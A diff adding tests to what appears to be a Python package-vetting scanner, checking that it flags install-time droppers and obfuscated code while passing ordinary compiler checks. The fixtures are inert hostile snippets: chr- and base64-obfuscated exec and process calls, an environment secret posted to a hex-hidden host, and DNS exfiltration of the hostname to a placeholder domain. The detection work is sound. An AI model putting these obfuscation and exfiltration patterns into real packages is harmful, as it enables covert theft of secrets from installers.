@@ -119,3 +119,79 @@ def test_hyphenated_sdist_names_match_their_metadata() -> None:
     assert "name-mismatch" not in {f.rule for f in report.findings}, report.to_json()
     renamed = vet("python-dateutil-2.8.2.tar.gz", sdist("python-datetil", "2.8.2", {}))
     assert "name-mismatch" in {f.rule for f in renamed.findings}
+
+
+def test_a_dropper_moved_into_a_module_setup_py_imports_runs_at_install() -> None:
+    helper = "import subprocess\n\n\ndef pre():\n    subprocess.run('true', shell=True)\n"
+    setup = "from setuptools import setup\nfrom pre_install import pre\npre()\nsetup(name='x')\n"
+    report = vet("x-1.0.tar.gz", sdist("x", "1.0", {"setup.py": setup, "pre_install.py": helper}))
+    held = [f for f in report.findings if f.rule == "process-call"]
+    assert held, report.to_json()
+    assert held[0].severity is Severity.HIGH  # runs during install, not "when called"
+    assert "at install time" in held[0].explanation
+
+
+def test_compiler_checks_in_setup_py_are_not_droppers() -> None:
+    source = (
+        "import subprocess, sys\n"
+        "subprocess.check_output(['pkg-config', '--libs', 'libffi'])\n"
+        "subprocess.call(['gcc', '-c', 'x.c'])\n"
+        "subprocess.check_call([sys.executable, '-c', 'pass'])\n"
+    )
+    found = scan_python("setup.py", source, install_time=True)
+    assert found, "the calls are still reported"
+    assert all(f.severity is Severity.LOW for f in found), found
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        # chr maps through getattr(__builtins__, ...), strings built from shifts
+        (
+            (
+                "c = getattr(__builtins__, 'ch' + 'r')\n"
+                "m = ''.join(map(c, [111, 115]))\ns = ''.join(map(c, [115, 121, 115]))\n"
+                "t = ''.join(map(c, [116, 101, 109]))\ngetattr(__import__(m), s + t)('true')\n"
+            ),
+            "hidden-process",
+        ),
+        # __import__('base64') through a lambda, then exec
+        (
+            "d = lambda s: __import__('base64').b64decode(s)\nexec(d('eD0x'))\n",
+            "obfuscated-exec",
+        ),
+        # a host hidden with bytes.fromhex, a secret read inside a function
+        (
+            (
+                "import os, requests\n\n\ndef f():\n    k = os.environ['KEY']\n"
+                f"    host = bytes.fromhex('{b'http://127.0.0.1/'.hex()}').decode()\n"
+                "    requests.post(host, data=k)\n"
+            ),
+            "exfiltration",
+        ),
+        # a home-made cipher's output (decrypt) executed
+        (
+            "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n",
+            "obfuscated-exec",
+        ),
+        # DNS exfiltration of the host name under a foreign domain
+        (
+            "import socket\nh = socket.gethostname()\n"  # noqa: ISC004 -- one source string
+            "socket.gethostbyname(f'{h}.c.example.invalid')\n",
+            "exfiltration",
+        ),
+    ],
+)
+def test_data_flow_recovers_hidden_behaviour(source: str, rule: str) -> None:
+    found = scan_python("m/__init__.py", source)
+    assert rule in {f.rule for f in found if f.severity is Severity.CRITICAL}, found
+
+
+def test_plain_uses_of_the_same_calls_do_not_deny() -> None:
+    source = (
+        "import os, socket, requests, base64\n"
+        "ip = socket.gethostbyname(socket.gethostname())\n"
+        "ICON = base64.b64decode('iVBORw0KGgo=')\n\n\n"
+        "def fetch(url):\n    return requests.get(url, timeout=5).text\n"
+    )
+    assert all(f.severity < Severity.HIGH for f in scan_python("m/__init__.py", source))
